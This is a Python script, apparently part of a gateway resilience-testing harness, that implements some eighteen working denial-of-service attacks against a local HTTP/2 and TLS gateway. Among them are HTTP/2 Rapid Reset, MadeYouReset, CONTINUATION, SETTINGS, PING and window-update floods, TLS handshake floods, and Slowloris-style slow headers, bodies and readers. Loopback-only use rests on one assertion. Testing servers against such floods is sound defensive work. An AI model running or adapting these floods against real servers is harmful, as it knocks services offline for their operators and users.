#!/usr/bin/env python3
"""attacker.py NAME HOST:PORT: one hostile client (or `harmless`, a polite one) that goes on until it is ended. Loopback only, one thread, and bytes
that were made beforehand: what its CPU is capped to goes into the attack. run_beside.py runs it. Needs python3-hpack for nothing."""
import os, select, socket, ssl, struct, sys, time

HOST = "gw.test"; PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
def frame(kind, flags, stream, payload=b""): return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
def literal(name, value): return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
# Static table: 2 GET, 3 POST, 7 https; authority and path as literals.
def head(method=2, path=b"/public/x"): return bytes([0x80 | method, 0x87]) + literal(b":authority", HOST.encode()) + literal(b":path", path)
SETTINGS = frame(4, 0, 0); HEADERS, END_STREAM, END_HEADERS = 1, 1, 4
CONTEXT = ssl.create_default_context(); CONTEXT.check_hostname = False; CONTEXT.verify_mode = ssl.CERT_NONE


class Peer:
    def __init__(self, target): host, _, port = target.rpartition(":"); assert host in ("127.0.0.1", "localhost"); self.address = host, int(port); self.count = 0

    def tcp(self, receive=None):
        s = socket.socket(); self.count += 1
        if receive: s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        s.bind(("127.0.0.%d" % (9 + self.count % 8), 0)); s.settimeout(5); s.connect(self.address); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1); return s

    def tls(self, *alpn, receive=None):
        x = ssl.create_default_context(); x.check_hostname = False; x.verify_mode = ssl.CERT_NONE; x.set_alpn_protocols(list(alpn)); return x.wrap_socket(self.tcp(receive), server_hostname=HOST)

    def h2(self):
        s = self.tls("h2"); s.sendall(PREFACE + SETTINGS); return s


def flood(opening, repeated):
    """`opening` once on each connection, then what `repeated(n)` gives for n = 0, 1, … until the gateway closes; then anew."""
    def attack(peer):
        while True:
            try:
                s = peer.h2(); s.sendall(opening); s.settimeout(0); n = 0; pending = b""
                while n < 200:
                    if not pending: pending = repeated(n); n += 1
                    try: pending = pending[s.send(pending):]
                    except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError): select.select([s], [s], [], 0.05)
                    try:
                        if not s.recv(65536): break
                    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError): pass
                s.close()
            except OSError: time.sleep(0.001)
    return attack


def streams(n, one, each=50): return b"".join(one(1 + 2 * (n * each + i)) for i in range(each))
GET = head(); POST = head(3)
rapid_reset = flood(b"", lambda n: streams(n, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, GET) + frame(3, 0, s, b"\0\0\0\x08")))
made_you_reset = flood(b"", lambda n: streams(n, lambda s: frame(HEADERS, END_HEADERS, s, POST) + frame(8, 0, s, b"\0\0\0\0")))
continuation = flood(frame(HEADERS, END_STREAM, 1, GET), lambda n: frame(9, 0, 1) * 200)
continuation_large = flood(frame(HEADERS, END_STREAM, 1, GET), lambda n: frame(9, 0, 1, literal(b"x-a", b"b" * 100) * 100) * 2)
settings = flood(b"", lambda n: frame(4, 0, 0, b"\0\x04\0\0\xff\xff") * 200)
ping = flood(b"", lambda n: frame(6, 0, 0, b"12345678") * 200)
empty_data = flood(frame(HEADERS, END_HEADERS, 1, POST), lambda n: frame(0, 0, 1) * 200)
priority = flood(b"", lambda n: frame(2, 0, 1, b"\0\0\0\x03\x10") * 200)
window_updates = flood(frame(HEADERS, END_HEADERS, 1, POST), lambda n: (frame(8, 0, 0, b"\0\0\0\x01") + frame(8, 0, 1, b"\0\0\0\x01")) * 100)
# Streams that want much and may be sent nothing, and all their windows moved to and fro.
window_games = flood(frame(4, 0, 0, b"\0\x04\0\0\0\0") + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, head(2, b"/public/big")) for i in range(50)), lambda n: (frame(4, 0, 0, b"\0\x04\0\0\0\x01") + frame(4, 0, 0, b"\0\x04\0\0\0\0")) * 50)
unread_answers = flood(frame(4, 0, 0, b"\0\x04\0\0\0\0"), lambda n: streams(n, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, head(2, b"/public/big")), 10))


def hello():
    out = ssl.MemoryBIO(); s = CONTEXT.wrap_bio(ssl.MemoryBIO(), out, server_hostname=HOST)
    try: s.do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()


def handshake_flood(peer):
    first = hello()
    while True:
        try: s = peer.tcp(); s.sendall(first); s.recv(1); s.close()
        except OSError: time.sleep(0.001)


def whole_handshakes(peer):
    while True:
        try: peer.tls("http/1.1").close()
        except OSError: time.sleep(0.001)


def held(count, begin, feed, every):
    """`count` connections at once, each begun by `begin` and fed with `feed` every so many seconds; those that are closed are replaced."""
    def attack(peer):
        open_ = []
        while True:
            while len(open_) < count:
                try: open_.append(begin(peer))
                except OSError: time.sleep(0.01); break
            time.sleep(every); kept = []
            for s in open_:
                try:
                    if feed: s.sendall(feed)
                    kept.append(s)
                except OSError: s.close()
            dead, _, _ = select.select(kept[:900], [], [], 0) if not feed else ([], [], [])
            for s in dead:
                try:
                    if not s.recv(1, socket.MSG_PEEK) if not isinstance(s, ssl.SSLSocket) else False: kept.remove(s); s.close()
                except OSError: kept.remove(s); s.close()
            open_ = kept
    return attack


def began(data, *alpn, receive=None, plain=False):
    def begin(peer): s = peer.tcp(receive) if plain else peer.tls(*alpn, receive=receive); s.sendall(data); s.settimeout(1); return s
    return begin
handshake_stall = held(400, lambda peer: began(hello()[:200], plain=True)(peer), b"", 0.1)
slow_heads = held(200, began(b"GET /public/x HTTP/1.1\r\nHost: gw.test\r\nX-a: ", "http/1.1"), b"a", 0.5)
slow_bodies = held(200, began(b"POST /public/x HTTP/1.1\r\nHost: gw.test\r\nContent-Length: 8192\r\n\r\n", "http/1.1"), b"x", 0.5)
slow_readers = held(100, began(b"GET /public/big HTTP/1.1\r\nHost: gw.test\r\n\r\n", "http/1.1", receive=4096), b"", 0.5)
slow_preface = held(200, began(PREFACE[:5], "h2"), b"", 0.1)


def harmless(peer):
    request = b"GET /harmless HTTP/1.1\r\nHost: gw.test\r\n\r\n"
    while True:
        try:
            s = peer.tls("http/1.1")
            while True:
                s.sendall(request)
                if not s.recv(65536): break
        except OSError: time.sleep(0.001)


ATTACKS = ["rapid_reset", "made_you_reset", "continuation", "continuation_large", "settings", "ping", "empty_data", "priority", "window_updates", "window_games", "unread_answers",
           "handshake_flood", "whole_handshakes", "handshake_stall", "slow_heads", "slow_bodies", "slow_readers", "slow_preface"]
if __name__ == "__main__": assert sys.argv[1] in ATTACKS + ["harmless"]; print("begins", flush=True); globals()[sys.argv[1]](Peer(sys.argv[2]))
